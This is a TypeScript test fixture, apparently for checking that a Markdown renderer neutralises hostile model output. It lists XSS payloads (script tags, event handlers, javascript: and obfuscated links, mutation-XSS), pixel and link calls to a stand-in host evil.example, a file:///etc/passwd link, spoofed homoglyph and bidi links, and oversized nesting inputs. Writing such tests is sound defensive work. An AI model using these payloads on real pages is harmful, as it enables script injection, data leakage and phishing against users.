/** Model output that must not run, load or move anything on the page. Each sets `window.hacked` if it can. */

const RLO = '\u202e';
const ZERO_WIDTH = '\u200b\u200d\u2060\ufeff';

export const HOSTILE_MARKDOWN: readonly string[] = [
  '<script>window.hacked = 1</script>',
  '<img src="https://evil.example/x.png" onerror="window.hacked = 1">',
  '<img src=x onerror=window.hacked=1>',
  '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
  '<svg><use href="https://evil.example/s.svg#x"></use></svg>',
  '<svg><animate onbegin="window.hacked=1" attributeName="x" dur="1s"></animate></svg>',
  '<style>body { display: none } @import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<div style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/b.png)">cover</div>',
  '<iframe src="https://evil.example" srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">',
  '<form action="https://evil.example"><input name="a" autofocus onfocus="window.hacked=1"><button>Send</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<details open ontoggle="window.hacked=1"><summary>s</summary></details>',
  '<video src="https://evil.example/v.mp4" autoplay onloadstart="window.hacked=1"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  '<a href="javascript:window.hacked=1">html link</a>',
  '<a href="https://evil.example/" ping="https://evil.example/ping">pinged</a>',
  '![pixel](https://evil.example/pixel.png?secret=1)',
  '![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5oYWNrZWQ9MSI+)',
  '![ref][pic]\n\n[pic]: https://evil.example/ref.png "t"',
  '[script](javascript:window.hacked=1)',
  '[case](JaVaScRiPt:window.hacked=1)',
  '[entity](&#106;&#97;vascript&colon;window.hacked=1)',
  '[tab](java\tscript:window.hacked=1)',
  '[data](data:text/html,<script>window.hacked=1</script>)',
  '[vb](vbscript:window.hacked=1)',
  '[blob](blob:https://evil.example/1)',
  '[file](file:///etc/passwd)',
  '[relative](/api/v1/flows/) [host](//evil.example/x)',
  '[titled](https://evil.example/ "\\" onmouseover=\\"window.hacked=1")',
  '[https://bank.example/login](https://evil.example/login)',
  '[bank.example](https://user:pass@evil.example/)',
  '[https://аррӏе.example](https://аррӏе.example/)',
  `[${RLO}moc.elpmaxe.knab](https://evil.example/bidi)`,
  '<javascript:window.hacked=1>',
  '[![inner](https://evil.example/i.png)](https://evil.example/outer)',
  '[a]: <javascript:window.hacked=1>\n[shortcut][a]',
  '```html\n<script>window.hacked = 1</script>\n```',
  '```"><img src=x onerror=window.hacked=1>\ncode\n```',
  '| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| [x](javascript:window.hacked=1) | <script>1</script> |',
  '- [x] <input type="checkbox" onclick="window.hacked=1">',
  '[^1]\n\n[^1]: <script>window.hacked=1</script>',
  '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u001b[2J',
  `${RLO}gnp.exe\u202c \u2066isolated\u2069 ${ZERO_WIDTH}`,
  `${'Z\u0335\u0321\u0322'.repeat(200)}`,
  'W'.repeat(20_000),
  `${'> '.repeat(400)}deep`,
  `${'- '.repeat(200)}deep`,
  `${'*'.repeat(2000)}stars${'*'.repeat(2000)}`,
  `${'['.repeat(3000)}brackets`,
  '{{constructor.constructor("window.hacked=1")()}} #{window.hacked=1}',
];

/** Nested lists, as deep as the page accepts. */
export function nested(depth: number): unknown {
  let value: unknown = '<img src=x onerror=window.hacked=1>';
  for (let level = 0; level < depth; level += 1) value = level % 2 ? [value] : { '<b onclick=window.hacked=1>': value };
  return value;
}
